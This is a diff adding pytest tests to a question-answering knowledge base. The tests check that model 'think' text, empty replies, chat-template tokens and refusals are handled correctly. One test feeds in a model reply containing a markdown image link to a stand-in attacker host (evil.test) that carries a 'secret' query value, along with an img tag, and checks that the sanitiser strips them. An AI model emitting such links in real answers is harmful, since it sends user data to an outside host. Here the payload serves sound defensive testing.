@@ -261,3 +261,49 @@ def test_a_deadline_shorter_than_any_work_is_kept(kb: KnowledgeBase) -> None:
     response = asyncio.run(kb.ask("On which day are releases made?", timeout=0.000001))
     assert response.error is not None
     assert response.error.code == "TIMEOUT"
+
+
+THOUGHT = "<think>The user wants a day. Perhaps Monday?</think>\n\n"
+
+
+@pytest.mark.rule("librarian-35")
+def test_what_a_model_thinks_aloud_is_in_no_answer(kb_with_model: KnowledgeBase, server: ModelServer) -> None:
+    server.answers.append(Answer(text=f"{THOUGHT}Releases are made on Fridays [1]."))
+    response = answered(kb_with_model, "On which day are releases made?")
+    assert response.answer == "Releases are made on Fridays [1]."
+
+
+def test_what_a_model_thinks_aloud_is_not_streamed(kb_with_model: KnowledgeBase, server: ModelServer) -> None:
+    pieces: list[str] = []
+    server.answers.append(Answer(text=f"{THOUGHT}It is a < b, on Fridays [1]."))
+    answered(kb_with_model, "On which day are releases made?", pair.Context(on_text=pieces.append))
+    assert "".join(pieces) == "It is a < b, on Fridays [1]."
+
+
+@pytest.mark.rule("librarian-36")
+@pytest.mark.parametrize("text", ["", " \n", THOUGHT, "<think>cut off in the middle", "<|im_end|>"])
+def test_a_reply_without_words_leaves_the_quotations(
+    kb_with_model: KnowledgeBase, server: ModelServer, text: str
+) -> None:
+    server.answers.append(Answer(text=text))
+    response = answered(kb_with_model, "On which day are releases made?")
+    assert response.answer is not None
+    assert "Releases are made on Fridays at noon." in response.answer
+    assert (response.metadata["method"], response.partial) == ("quotation", True)
+    assert response.metadata["aiUnavailable"] == "the model gave an empty reply"
+
+
+def test_a_refusal_is_not_streamed(kb_with_model: KnowledgeBase, server: ModelServer) -> None:
+    pieces: list[str] = []
+    server.answers.append(Answer(text=f"{REFUSAL}."))
+    response = answered(kb_with_model, "On which day are releases made?", pair.Context(on_text=pieces.append))
+    assert (pieces, response.metadata["method"]) == ([], "none")
+
+
+def test_images_template_tokens_and_links_of_no_passage_are_taken_out(
+    kb_with_model: KnowledgeBase, server: ModelServer
+) -> None:
+    reply = "On ![day](http://evil.test/?q=secret)Fridays [1], see [the plan](http://evil.test/).<img src=x><|im_end|>"
+    server.answers.append(Answer(text=reply))
+    response = answered(kb_with_model, "On which day are releases made?")
+    assert response.answer == "On dayFridays [1], see the plan."
